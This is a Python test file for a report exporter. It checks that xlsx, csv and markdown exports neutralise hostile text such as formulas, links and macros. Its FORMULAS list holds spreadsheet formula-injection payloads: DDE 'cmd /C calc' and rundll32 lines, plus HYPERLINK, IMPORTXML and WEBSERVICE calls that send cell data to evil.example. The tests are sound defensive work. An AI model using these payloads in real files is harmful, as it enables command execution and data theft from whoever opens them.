"""Hostile text in titles, summaries and ids: it runs nowhere and is not lost."""

import csv
import re
from io import BytesIO, StringIO
from pathlib import Path
from zipfile import ZipFile

import pytest
from markdown_it import MarkdownIt

from dossiers import FULL, compile_here
from hostile import compile_hostile, spelled
from readers import read_excel
from scenarios.report.contents import TABLES, tables_of
from scenarios.report.dossier import Dossier
from scenarios.report.exporting import Choices
from scenarios.report.tables import Kind
from tongues import exported, grids_of_markdown

pytestmark = pytest.mark.no_cover

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"see")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"__DdeLink")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    '"=1+1',
    '",=1+1,"',
    ";=1+1",
    "|=1+1",
    "%0A=1+1",
    "{=1+1}",
    "http://evil.example/=1+1",
    "mailto:x@evil.example",
    "internal:Sheet1!A1",
    "1E02",
    "007",
    "-7",
    "TRUE",
    "#REF!",
    "2024-01-01",
)
"""What spreadsheets have been made to run or to guess at, after OWASP."""

STARTERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t")


def compile_formulas(root: Path) -> Dossier:
    """Compile a dossier whose titles, summaries, origins, urls and ids are formulas."""
    news = "".join(
        f"- id: {spelled(_name(place, text))}\n"
        '  date: "2024-03-01"\n'
        f"  title: {spelled(text)}\n"
        "  observes: [strike/walkouts]\n"
        "  reports:\n"
        f"    - {{id: r1, source: union, url: {spelled(text)},\n"
        f"       origin: {spelled(text)}, summary: {spelled(text)}}}\n"
        for place, text in enumerate(FORMULAS)
    )
    first = '- {id: d1, date: "2024-01-02"}\n'
    return compile_here(root, FULL, {"news.yaml": first + news})


def _name(place: int, text: str) -> str:
    """Return the formula itself where it may be an id."""
    return text if re.fullmatch(r"[^\s/\\\x00-\x1f]+", text) else f"plain-{place}"


@pytest.fixture(scope="module", params=[compile_hostile, compile_formulas])
def dossier(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Dossier:
    compiled: Dossier = request.param(tmp_path_factory.mktemp("hostile"))
    return compiled


@pytest.mark.parametrize("choices", [Choices(), Choices(wide=True)])
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(
    choices: Choices, dossier: Dossier
) -> None:
    book = read_excel(BytesIO(exported(dossier, "xlsx", choices)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    assert [cell for cell in cells if cell.hyperlink is not None] == []
    assert book.defined_names == {}
    assert any(str(cell.value).startswith("=") for cell in cells)


def test_a_workbook_has_no_parts_that_run_or_reach_out(dossier: Dossier) -> None:
    content = exported(dossier, "xlsx")
    with ZipFile(BytesIO(content)) as archive:
        names = archive.namelist()
        relations = b"".join(archive.read(n) for n in names if n.endswith(".rels"))
    assert not [
        n for n in names if re.search("vba|macro|external|embed", n, re.IGNORECASE)
    ]
    assert b'TargetMode="External"' not in relations


def test_numbers_stay_numbers_negative_ones_too(dossier: Dossier) -> None:
    book = read_excel(BytesIO(exported(dossier, "xlsx")))
    least = 0.0
    for name, table in tables_of(dossier).items():
        for row in book[TABLES[name]].iter_rows(min_row=2):
            for cell, column in zip(row, table.columns, strict=True):
                if column.kind not in (Kind.TEXT, Kind.DATE):
                    assert cell.data_type == "n"
                    least = min(least, cell.value or 0)
    assert least < -1


@pytest.mark.parametrize("name", TABLES)
def test_no_text_of_a_csv_file_begins_as_a_formula(name: str, dossier: Dossier) -> None:
    table = tables_of(dossier)[name]
    content = exported(dossier, "csv", Choices(table=name)).decode()
    _, *rows = csv.reader(StringIO(content, newline=""))
    for row, exact in zip(rows, table.rows, strict=True):
        for text, cell in zip(row, exact, strict=False):
            if isinstance(cell, str):
                assert not text.lstrip().startswith(STARTERS)
                flat = " ".join(cell.splitlines())
                assert text in (flat, f"'{flat}")
            elif isinstance(cell, int | float):
                assert float(text) == cell
    assert len(content.splitlines()) >= len(rows) + 1


TAGS = {"h1", "h2", "h3", "p", "ul", "li", "table", "thead", "tbody", "tr", "th", "td"}


def test_markdown_has_only_the_tags_of_a_text(dossier: Dossier) -> None:
    text = exported(dossier, "markdown").decode()
    html = MarkdownIt("commonmark").enable("table").render(text)
    tags = set(re.findall(r"<\s*/?\s*([A-Za-z!?][A-Za-z0-9]*)", html))
    assert tags <= {*TAGS, "a"}
    links = re.findall(r'<a href="([^"]*)"', html)
    assert all(link.startswith(("http://", "https://")) for link in links)
    for grid in grids_of_markdown(text):
        assert len({len(row) for row in grid}) == 1


def test_every_development_has_its_entry_in_a_text(dossier: Dossier) -> None:
    text = exported(dossier, "markdown").decode()
    html = MarkdownIt("commonmark").enable("table").render(text)
    counting = {
        evidence.told.development.id
        for each in dossier.assessment.scenarios
        for row in each.ledger.rows
        for evidence in row.reading.evidence
    }
    assert len(re.findall(r"<li>2024-\d\d-\d\d: ", html)) == len(counting)
